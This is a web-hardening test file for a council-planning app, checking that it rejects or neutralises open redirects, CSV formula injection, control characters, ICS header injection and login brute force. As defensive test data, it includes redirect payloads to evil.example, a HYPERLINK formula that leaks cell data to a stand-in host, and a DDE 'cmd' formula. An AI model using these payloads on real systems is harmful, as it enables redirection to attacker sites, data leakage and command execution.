// Issue #12, the web-facing items, through real HTTP against a real server:
// open redirects (10), CSV formula injection (9), control characters and strict
// numbers in forms (11), the login throttle under a concurrent burst (12), and
// HTTP compression and caching (16).
import { parse } from "csv-parse/sync";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import zlib from "node:zlib";
import * as Y from "yjs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { actionsOf, areasOf, goalsOf } from "../../server/domain/plan-doc";
import { cookiesFrom, get, login, postForm } from "../helpers/http";
import { DEMO_PASSWORD, startTestServer, type TestServer } from "../helpers/server";
import { connect, synced } from "../helpers/yjs";
import { dialectOf } from "../../db";

/** Retry an assertion until it holds (a projection or cache catching up), for up to 5 s. */
async function eventually(check: () => Promise<void>, timeoutMs = 5000): Promise<void> {
  const started = Date.now();
  for (;;) {
    try {
      return await check();
    } catch (err) {
      if (Date.now() - started > timeoutMs) throw err;
      await new Promise((r) => setTimeout(r, 25));
    }
  }
}

const sessionCount = async (s: TestServer) =>
  Number((await s.db.selectFrom("sessions").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n);

describe("hardening (web)", () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startTestServer({}, { collab: { projectionDelayMs: 20 } });
  });
  afterAll(() => s?.close());

  describe("item 10: redirects stay on our origin", () => {
    // Each value as the form field holds it (after form decoding).
    const NASTY = [
      "/%09/evil.example",
      "/\t/evil.example",
      "/\\evil.example",
      "/\\/evil.example",
      "//evil.example",
      "///evil.example",
      "/.//evil.example",
      "/..//evil.example",
      "https://evil.example",
      "/\n/evil.example",
      "/\r/evil.example",
      "/\r\n/evil.example",
      "/x\nSet-Cookie: a=b",
      " //evil.example",
      "\t//evil.example",
      "javascript:alert(1)",
      "/javascript:alert(1)",
    ];
    /** Where a browser goes with this Location header, resolved as a browser does. */
    const landsOn = (location: string | null) => new URL(location ?? "", s.url);
    const ours = () => new URL(s.url).origin;

    it.each(NASTY)("POST /login with redirectTo=%j lands on our origin, never 500", async (target) => {
      const before = await sessionCount(s);
      const res = await postForm(s.url, "/login", { email: "ledamot@samsyn.test", password: DEMO_PASSWORD, redirectTo: target });
      expect(res.status).toBe(302);
      const location = res.headers.get("location");
      expect(landsOn(location).origin).toBe(ours());
      expect(location).toMatch(/^\/(?![/\\])/);
      expect(location).not.toMatch(/[\u0000-\u001f\u007f]/);
      expect(await sessionCount(s)).toBe(before + 1);
    });

    it.each(NASTY)("POST /language with redirectTo=%j lands on our origin, never 500", async (target) => {
      const res = await postForm(s.url, "/language", { lang: "en", redirectTo: target });
      expect(res.status).toBe(302);
      expect(landsOn(res.headers.get("location")).origin).toBe(ours());
      expect(res.headers.get("location")).toMatch(/^\/(?![/\\])/);
    });

    it("a signed-in visitor of /login?redirectTo=… is sent onward on our origin only", async () => {
      const cookie = await login(s.url, "ledamot@samsyn.test");
      for (const target of NASTY) {
        const res = await get(s.url, `/login?redirectTo=${encodeURIComponent(target)}`, cookie);
        expect(res.status, target).toBe(302);
        expect(landsOn(res.headers.get("location")).origin, target).toBe(ours());
      }
    });

    it("still honours a same-site path with its query and fragment", async () => {
      const res = await postForm(s.url, "/login", { email: "ledamot@samsyn.test", password: DEMO_PASSWORD, redirectTo: "/councils/skaraborg?tab=plan#x" });
      expect(res.headers.get("location")).toBe("/councils/skaraborg?tab=plan#x");
      const lang = await postForm(s.url, "/language", { lang: "sv", redirectTo: "/login" });
      expect(lang.headers.get("location")).toBe("/login");
      expect(cookiesFrom(lang.headers)).toContain("samsyn_lang=sv");
    });
  });

  describe("item 9: the follow-up CSV neutralises formulas, and its import reads them back", () => {
    // Cells a spreadsheet would run as formulas (OWASP "CSV Injection").
    const EVIL_TITLES = ['=HYPERLINK("https://evil.example?d="&A1;"Klicka")', "+SUM(1;2)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "'=1+1"];
    const EVIL_ORGS = ["=1+1", "@org", "-5"];
    const year = new Date().getFullYear();
    const csvPath = `/api/v1/councils/skaraborg/plans/${year}/followups.csv`;
    const dashboard = `/councils/skaraborg/plans/${year}/dashboard`;

    let planId: string;

    it("writes such cells with a leading ', and export → import changes nothing", async () => {
      const leader = await login(s.url, "processledare@samsyn.test");
      planId = (await s.db.selectFrom("plans as p").innerJoin("councils as k", "k.id", "p.council_id").select("p.id").where("k.slug", "=", "skaraborg").where("p.year", "=", year).executeTakeFirstOrThrow()).id;
      const editor = connect(s.url, `plan:${planId}`, leader);
      try {
        await synced(editor);
        const actions = areasOf(editor.doc).toArray().flatMap((a) => goalsOf(a).toArray()).flatMap((g) => actionsOf(g).toArray()) as Y.Map<unknown>[];
        const set = (a: Y.Map<unknown>, field: string, value: string) => {
          const t = a.get(field) as Y.Text;
          t.delete(0, t.length);
          t.insert(0, value);
        };
        const edited = EVIL_TITLES.map((title, i) => ({ id: String(actions[i].get("id")), title, org: EVIL_ORGS[i] }));
        editor.doc.transact(() => {
          edited.forEach((e, i) => {
            set(actions[i], "title", e.title);
            if (e.org !== undefined) set(actions[i], "responsibleOrg", e.org);
          });
        });
        // The projection (and so the export) follows the live document.
        await eventually(async () => {
          const rows = await s.db.selectFrom("plan_actions").select(["id", "title"]).where("plan_id", "=", planId).execute();
          for (const e of edited) expect(rows.find((r) => r.id === e.id)?.title).toBe(e.title);
        });
      } finally {
        editor.destroy();
      }

      const exported = await get(s.url, csvPath, leader);
      expect(exported.status).toBe(200);
      const rows: Record<string, string>[] = parse(exported.text, { bom: true, columns: true, delimiter: ";" });
      const byTitleCell = new Map(rows.map((r) => [r.action_id, r]));
      const edited = EVIL_TITLES.map((title, i) => ({ title, org: EVIL_ORGS[i] }));
      for (const [i, e] of edited.entries()) {
        const row = rows.find((r) => r.action === `'${e.title}`);
        expect(row, `title ${JSON.stringify(e.title)} is neutralised`).toBeDefined();
        if (e.org === "-5") expect(row!.responsible_org, "a plain number is left alone (decision 016)").toBe("-5");
        else if (e.org !== undefined) expect(row!.responsible_org).toBe(`'${e.org}`);
        expect(byTitleCell.get(row!.action_id), `row ${i}`).toBe(row);
      }
      // No cell at all starts as a formula, unless it is a plain number.
      for (const r of rows)
        for (const cell of Object.values(r)) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell), cell).toBe(false);

      // The file as exported imports as "no changes", and an edit in it is applied.
      const upload = (csv: string, intent: "preview" | "apply") => {
        const form = new FormData();
        form.set("intent", intent);
        if (intent === "apply") form.set("csv", csv);
        else form.set("file", new Blob([csv], { type: "text/csv" }), "uppfoljning.csv");
        return fetch(s.url + dashboard, { method: "POST", body: form, headers: { cookie: leader, origin: s.url }, redirect: "manual" });
      };
      const followupsBefore = (await s.db.selectFrom("followups").select("id").execute()).length;
      const same = await upload(exported.text, "preview");
      expect(same.status).toBe(200);
      expect(await same.text()).toContain("0 åtgärder ändras");
      const target = rows.find((r) => r.action === `'${EVIL_TITLES[0]}`)!;
      const lines = exported.text.split("\r\n");
      const changed = lines.map((l) => (l.includes(`;${target.action_id};`) ? l.replace(`;${target.status};${target.progress};`, ";delayed;42;") : l)).join("\r\n");
      expect(changed).not.toBe(exported.text);
      const appliedRes = await upload(changed, "apply");
      expect(appliedRes.status).toBe(200);
      const after = () => s.db.selectFrom("plan_actions").select(["status", "progress", "title"]).where("plan_id", "=", planId).where("id", "=", target.action_id).executeTakeFirstOrThrow();
      await eventually(async () => expect(await after()).toEqual({ status: "delayed", progress: 42, title: EVIL_TITLES[0] }));
      expect((await s.db.selectFrom("followups").select("id").execute()).length).toBe(followupsBefore + 1);
    });
  });

  describe("item 12: the login throttle holds under a concurrent burst", () => {
    it("checks at most 5 passwords of 16 concurrent attempts, and the right one sent last does not sign in", async () => {
      const email = "johan.nilsson@samsyn.test";
      const before = await sessionCount(s);
      const passwords = [...Array.from({ length: 15 }, (_, i) => `wrong-${i}`), DEMO_PASSWORD];
      const results = await Promise.all(passwords.map((password) => postForm(s.url, "/login", { email, password })));
      const statuses = results.map((r) => r.status);
      // Only attempts whose password was checked answer 401 (or 302); the rest are refused before.
      expect(statuses.filter((x) => x === 401).length, statuses.join(",")).toBe(5);
      expect(statuses.filter((x) => x === 429).length, statuses.join(",")).toBe(11);
      expect(statuses.at(-1)).toBe(429);
      expect(results.at(-1)!.headers.getSetCookie().some((c) => c.startsWith("samsyn_session="))).toBe(false);
      expect(await sessionCount(s)).toBe(before);
      // And the address stays locked for the right password afterwards.
      const after = await postForm(s.url, "/login", { email, password: DEMO_PASSWORD });
      expect(after.status).toBe(429);
      expect(Number(after.headers.get("retry-after"))).toBeGreaterThan(0);
    });

    it("does not hold successful sign-ins against the client address", async () => {
      // 52 sign-ins from one address (over the per-address limit of 50) all succeed.
      for (let i = 0; i < 52; i++) await login(s.url, "ledamot@samsyn.test");
      const row = await s.db.selectFrom("login_throttle").selectAll().where("key", "like", "ip:%").executeTakeFirst();
      expect(row?.locked_until ?? null).toBeNull();
    });
  });

  describe("item 11: control characters and loose numbers are refused at validation", () => {
    const year = new Date().getFullYear();
    const CONTROL_IN_ICS = /[\u0000-\u0008\u000a-\u001f\u007f]/; // bare LF, CR or any other C0 but TAB; lines end in CRLF
    const icsHasControl = (ics: string) => CONTROL_IN_ICS.test(ics.replace(/\r\n/g, ""));
    const futureDate = () => new Date(Date.now() + 40 * 86_400_000).toISOString().slice(0, 10);
    const createMeeting = (cookie: string, fields: Record<string, string>) =>
      postForm(s.url, "/councils/skaraborg/meetings", { intent: "create", date: futureDate(), startTime: "09:00", endTime: "10:00", location: "", videoUrl: "", description: "", ...fields }, cookie);
    const meetingCount = async () => Number((await s.db.selectFrom("meetings").select((eb) => eb.fn.countAll().as("n")).executeTakeFirstOrThrow()).n);

    it.each([
      ["NUL", "Rådsmöte\u0000"],
      ["ESC", "Rådsmöte \u001b[31mröd"],
      ["BEL", "Rådsmöte\u0007"],
      ["DEL", "Rådsmöte\u007f"],
      ["a line break in a one-line field", "Rådsmöte\nDTSTART:19700101T000000Z"],
      ["TAB in a one-line field", "Råds\tmöte"],
    ])("a meeting title with %s is refused with 400 in the reader's language, and nothing is stored", async (_what, title) => {
      const leader = await login(s.url, "processledare@samsyn.test");
      const before = await meetingCount();
      const sv = await createMeeting(leader, { title });
      expect(sv.status).toBe(400);
      expect(sv.text).toContain("Texten innehåller otillåtna kontrolltecken.");
      const en = await createMeeting(`${leader}; samsyn_lang=en`, { title });
      expect(en.status).toBe(400);
      expect(en.text).toContain("The text contains control characters that are not allowed.");
      // Nothing stored at all (counted, not looked up by title: PostgreSQL text cannot hold the NUL).
      expect(await meetingCount()).toBe(before);
    });

    it("multi-line text keeps its line breaks and tabs, and the .ics carries no control character", async () => {
      const leader = await login(s.url, "processledare@samsyn.test");
      const description = "Första raden\r\nAndra\traden\n\nTredje";
      const refused = await createMeeting(leader, { title: "Rådsmöte med beskrivning", description: "Beskrivning\u0000" });
      expect(refused.status).toBe(400);
      const created = await createMeeting(leader, { title: "Rådsmöte med beskrivning", description });
      expect(created.status, created.text.slice(0, 300)).toBe(302);
      const path = created.headers.get("location")!;
      await postForm(s.url, path, { intent: "convene" }, leader);
      const ics = await get(s.url, `${path}/calendar.ics`, leader);
      expect(ics.status).toBe(200);
      expect(ics.text).toContain("Andra\traden");
      expect(icsHasControl(ics.text)).toBe(false);
    });

    it("a meeting stored with control characters before the rule still gives a clean .ics", async () => {
      const leader = await login(s.url, "processledare@samsyn.test");
      const created = await createMeeting(leader, { title: "Gammalt möte" });
      expect(created.status).toBe(302);
      const path = created.headers.get("location")!;
      await postForm(s.url, path, { intent: "convene" }, leader);
      const id = path.split("/").at(-1)!;
      // PostgreSQL text cannot hold NUL, so there a stored title cannot have one: SOH stands in.
      const nul = dialectOf(s.db) === "postgres" ? "\u0001" : "\u0000";
      await s.db.updateTable("meetings").set({ title: `Gammalt${nul} möte\u001b\u0007`, location: "Rum\r\nX-EVIL:1", description: `Rad${nul}ett` }).where("id", "=", id).execute();
      const ics = await get(s.url, `${path}/calendar.ics`, leader);
      expect(ics.status).toBe(200);
      expect(ics.text).toContain("SUMMARY:Gammalt möte (Kompetensråd Skaraborg)");
      expect(ics.text).not.toMatch(/^X-EVIL/m);
      expect(icsHasControl(ics.text)).toBe(false);
    });

    it.each(["0x10", "1e1", " 16", "16.0", "+16", "-0", "", "１６"])("progress=%j is refused with 400 and nothing is stored", async (progress) => {
      const leader = await login(s.url, "processledare@samsyn.test");
      const planId = (await s.db.selectFrom("plans as p").innerJoin("councils as k", "k.id", "p.council_id").select("p.id").where("k.slug", "=", "skaraborg").where("p.year", "=", year).executeTakeFirstOrThrow()).id;
      const action = await s.db.selectFrom("plan_actions").select(["id"]).where("plan_id", "=", planId).orderBy("id").executeTakeFirstOrThrow();
      const before = await s.db.selectFrom("followups").select("id").execute();
      const res = await postForm(s.url, `/councils/skaraborg/plans/${year}/actions/${action.id}`, { status: "on_track", progress, comment: "" }, leader);
      expect(res.status).toBe(400);
      expect(res.text).toContain("Ange hur mycket som är genomfört, 0–100.");
      expect((await s.db.selectFrom("followups").select("id").execute()).length).toBe(before.length);
      // A plain decimal number still works.
      if (progress === "0x10") {
        const ok = await postForm(s.url, `/councils/skaraborg/plans/${year}/actions/${action.id}`, { status: "on_track", progress: "16", comment: "Rad ett\nRad två" }, leader);
        expect(ok.status).toBe(200);
      }
    });

    it("agenda minutes=0x10 is refused with 400 and no agenda item is stored", async () => {
      const leader = await login(s.url, "processledare@samsyn.test");
      const created = await createMeeting(leader, { title: "Möte för dagordning" });
      const path = created.headers.get("location")!;
      const id = path.split("/").at(-1)!;
      const res = await postForm(s.url, path, { intent: "addAgenda", title: "Punkt", kind: "discussion", minutes: "0x10", presenter: "", planLink: "" }, leader);
      expect(res.status).toBe(400);
      expect(res.text).toContain("Ange antal minuter, 1–480.");
      const bell = await postForm(s.url, path, { intent: "addAgenda", title: "Punkt\u0007", kind: "discussion", minutes: "15", presenter: "", planLink: "" }, leader);
      expect(bell.status).toBe(400);
      expect(await s.db.selectFrom("agenda_items").select("id").where("meeting_id", "=", id).execute()).toEqual([]);
      const ok = await postForm(s.url, path, { intent: "addAgenda", title: "Punkt", kind: "discussion", minutes: "16", presenter: "", planLink: "" }, leader);
      expect(ok.status).toBeLessThan(400);
      expect((await s.db.selectFrom("agenda_items").select("minutes").where("meeting_id", "=", id).execute()).map((r) => r.minutes)).toEqual([16]);
    });
  });

  describe("item 16: compression and caching", () => {
    /** A raw HTTP GET (no automatic decoding, unlike fetch): status, headers and the bytes as sent. */
    const rawGet = (p: string, headers: Record<string, string>) =>
      new Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }>((resolve, reject) => {
        http
          .get(s.url + p, { headers }, (res) => {
            const chunks: Buffer[] = [];
            res.on("data", (c: Buffer) => chunks.push(c));
            res.on("end", () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
            res.on("error", reject);
          })
          .on("error", reject);
      });
    const decode = (encoding: string | undefined, body: Buffer) =>
      encoding === "br" ? zlib.brotliDecompressSync(body) : encoding === "gzip" ? zlib.gunzipSync(body) : body;
    /** Each page carries a fresh CSP nonce; everything else must match byte for byte. */
    const sameBesidesNonce = (b: Buffer) => b.toString("utf8").replace(/nonce="[^"]*"/g, 'nonce=""').replace(/'nonce-[^']*'/g, "'nonce-'");
    const assetsDir = path.resolve("build/client/assets");
    const asset = (ext: string) => `/assets/${fs.readdirSync(assetsDir).filter((f) => f.endsWith(ext)).sort((a, b) => fs.statSync(path.join(assetsDir, b)).size - fs.statSync(path.join(assetsDir, a)).size)[0]}`;

    it.each(["br", "gzip"])("serves pages, JS and CSS with Content-Encoding %s, decoding to the uncompressed body", async (encoding) => {
      const cookie = await login(s.url, "ledamot@samsyn.test");
      const year = new Date().getFullYear();
      for (const p of ["/", `/councils/skaraborg/plans/${year}`, asset(".js"), asset(".css")]) {
        const plain = await rawGet(p, { "accept-encoding": "identity", cookie });
        const packed = await rawGet(p, { "accept-encoding": encoding, cookie });
        expect(plain.status, p).toBe(200);
        expect(packed.status, p).toBe(200);
        expect(plain.headers["content-encoding"], p).toBeUndefined();
        expect(packed.headers["content-encoding"], p).toBe(encoding);
        expect(packed.headers.vary, p).toMatch(/accept-encoding/i);
        expect(packed.body.length, p).toBeLessThan(plain.body.length / 2);
        expect(sameBesidesNonce(decode(encoding, packed.body)), p).toBe(sameBesidesNonce(plain.body));
      }
    });

    it("long-caches fingerprinted assets and caches the rest of public/ briefly", async () => {
      for (const p of [asset(".js"), asset(".css")]) {
        const res = await rawGet(p, { "accept-encoding": "br" });
        expect(res.headers["cache-control"], p).toBe("public, max-age=31536000, immutable");
      }
      const icon = await rawGet("/favicon.svg", { "accept-encoding": "br" });
      expect(icon.status).toBe(200);
      expect(icon.headers["cache-control"]).toBe("public, max-age=3600");
    });

    it("leaves downloads correct: the CSV and the .ics decode to the same bytes", async () => {
      const cookie = await login(s.url, "ledamot@samsyn.test");
      const year = new Date().getFullYear();
      const meeting = await s.db.selectFrom("meetings as m").innerJoin("councils as k", "k.id", "m.council_id").select("m.id").where("k.slug", "=", "skaraborg").where("m.status", "=", "convened").executeTakeFirstOrThrow();
      for (const p of [`/api/v1/councils/skaraborg/plans/${year}/followups.csv`, `/councils/skaraborg/meetings/${meeting.id}/calendar.ics`]) {
        const plain = await rawGet(p, { "accept-encoding": "identity", cookie });
        const packed = await rawGet(p, { "accept-encoding": "gzip, br", cookie });
        expect(plain.status, p).toBe(200);
        expect(packed.headers["content-disposition"], p).toBe(plain.headers["content-disposition"]);
        expect(packed.headers["content-type"], p).toBe(plain.headers["content-type"]);
        expect(decode(packed.headers["content-encoding"], packed.body).equals(plain.body), p).toBe(true);
      }
    });

    it("leaves socket.io's own transport working", async () => {
      const res = await rawGet("/socket.io/?EIO=4&transport=polling", { "accept-encoding": "br, gzip" });
      expect(res.status).toBe(200);
      expect(decode(res.headers["content-encoding"], res.body).toString("utf8")).toMatch(/^0\{"sid":/);
    });
  });
});
